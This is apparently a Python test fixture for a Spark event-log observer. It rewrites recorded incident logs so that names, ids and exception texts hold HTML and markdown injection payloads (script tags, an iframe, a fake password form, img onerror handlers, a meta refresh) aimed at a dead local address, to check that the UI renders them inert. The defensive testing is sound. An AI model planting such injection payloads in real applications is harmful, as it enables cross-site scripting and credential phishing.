"""A history whose every text field holds markup: recorded incidents (a crash loop with exceptions, an
executor loss with placement) with their application names, query names, query and run ids, exception
texts, operator names and executor ids replaced by HTML and markdown payloads, then replayed by the
observer as any event log is. The events' structure and timing are Spark's own; only the strings differ.

Every payload points at ``HOSTILE_HOST`` (an address nothing listens on), so a test finds any element the
browser made of one by looking for that host in its attributes.
"""

from __future__ import annotations

import glob
import json
import os
from typing import Any

import zstandard

from spark_state_observer.offline.replay import replay
from spark_state_observer.settings import Settings

FIXTURES = os.path.join(os.path.dirname(__file__), "..", "fixtures", "incidents")
HOSTILE_HOST = "127.0.0.1:9"
# HTML and markdown that would make an element (or act) if rendered: meta refresh, a password form,
# script, iframe, images, links, autolinks, entities, Streamlit's colour directive and math, a heading
PAYLOADS = [
    f'<meta http-equiv="refresh" content="0;url=http://{HOSTILE_HOST}/meta">',
    f'<form action="http://{HOSTILE_HOST}/form"><input type="password" name="pw"></form>',
    "<script>window.__hostile = 1</script>",
    f'<iframe src="http://{HOSTILE_HOST}/iframe"></iframe>',
    f'<img src="http://{HOSTILE_HOST}/img.png" onerror="window.__hostile = 2">',
    f"![image](http://{HOSTILE_HOST}/md.png)",
    f"[link](http://{HOSTILE_HOST}/md-link)",
    f"<http://{HOSTILE_HOST}/autolink> http://{HOSTILE_HOST}/bare",
    f'<a href="http://{HOSTILE_HOST}/a">anchor</a>',
    "&lt;b&gt;entity&lt;/b&gt; &#60;i&#62;",
    ":red[directive] $x^2$ **bold** _em_ `tick",
    f"x\n\n# Heading\n\n![block](http://{HOSTILE_HOST}/block.png)",
]
# one line, no markdown or HTML left after display: shown literally, so a test can look for it
QUERY_NAME = f"![q](http://{HOSTILE_HOST}/q.png) <b>crash</b> [loop](http://{HOSTILE_HOST}/l)"
APP_NAME = f"<form action='http://{HOSTILE_HOST}/app'><input type=password></form> app"


def _read(path: str) -> list[str]:
    with open(path, "rb") as f:
        raw = f.read()
    if path.endswith(".zstd"):
        raw = zstandard.ZstdDecompressor().stream_reader(raw).read()
    return raw.decode("utf-8").splitlines()


def _walk(value: Any, swap: dict[str, dict[str, str]], key: str | None = None) -> Any:
    """``value`` with the strings of ``swap[key]`` replaced (``swap['*']``: under any key)."""
    if isinstance(value, dict):
        return {k: _walk(v, swap, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_walk(v, swap, key) for v in value]
    if isinstance(value, str):
        return swap.get(key or "", {}).get(value, swap["*"].get(value, value))
    return value


def _payload(n: int) -> str:
    return PAYLOADS[n % len(PAYLOADS)]


def hostile_logs(scenario: str, out_dir: str, tag: str, query_name: str) -> list[str]:
    """The scenario's event logs rewritten under ``out_dir`` (plain text), one folder per run."""
    runs = sorted(glob.glob(os.path.join(FIXTURES, scenario, "run*")), key=lambda p: int(p.rsplit("run", 1)[1]))
    records = [[json.loads(line) for line in _read(path)] for run in runs for path in glob.glob(os.path.join(run, "eventlog", "*", "*"))]
    ids: dict[str, str] = {}
    executors: dict[str, str] = {}
    operators: dict[str, str] = {}
    for events in records:
        for e in events:
            kind = e.get("Event", "")
            if kind.endswith("QueryStartedEvent"):
                ids.setdefault(e["id"], f"{_payload(len(ids))} {tag} query {len(ids)}")
                ids.setdefault(e["runId"], f"{_payload(len(ids) + 3)} {tag} run {len(ids)}")
            for op in (e.get("progress") or {}).get("stateOperators", []):
                name = op.get("operatorName")
                if name:
                    operators.setdefault(name, f"{_payload(len(operators) + 5)} {name}")
            executor = e.get("Executor ID")
            if isinstance(executor, str) and executor != "driver":
                executors.setdefault(executor, f"{_payload(len(executors) + 7)} exec {executor}")
    swap = {
        "*": ids,
        "name": {e["name"]: query_name for events in records for e in events if e.get("Event", "").endswith("QueryStartedEvent")},
        "Executor ID": executors,
        "operatorName": operators,
        "App Name": {e["App Name"]: f"{APP_NAME} {tag}" for events in records for e in events if "App Name" in e},
    }
    paths = []
    for n, events in enumerate(records):
        folder = os.path.join(out_dir, f"{tag}-run{n + 1}", f"eventlog_v2_{tag}-{n + 1}")
        os.makedirs(folder)
        path = os.path.join(folder, f"events_1_{tag}-{n + 1}")
        with open(path, "w", encoding="utf-8") as f:
            for e in events:
                e = _walk(e, swap)
                if e.get("Event", "").endswith("QueryTerminatedEvent") and e.get("exception"):
                    e["exception"] = f"org.apache.spark.SparkException: {_payload(n)} {_payload(n + 6)}\n\tat {_payload(n + 11)}"
                f.write(json.dumps(e) + "\n")
        paths.append(folder)
    return paths


def build(db: str, work: str) -> dict[str, str]:
    """The hostile history in ``db``; returns scenario -> its (hostile) query id."""
    settings = Settings.from_env(history_max_age_seconds=10 * 365 * 86400.0, history_max_bytes=float(1 << 40))
    found = {}
    for scenario in ("crash_loop_503", "executor_loss"):
        logs = hostile_logs(scenario, work, scenario, f"{QUERY_NAME} {scenario}")
        result = replay(logs, settings, history=db)
        assert not result.errors, result.errors[:3]
        with open(os.path.join(logs[0], os.listdir(logs[0])[0])) as f:
            found[scenario] = next(json.loads(line)["id"] for line in f if "QueryStartedEvent" in line)
    return found
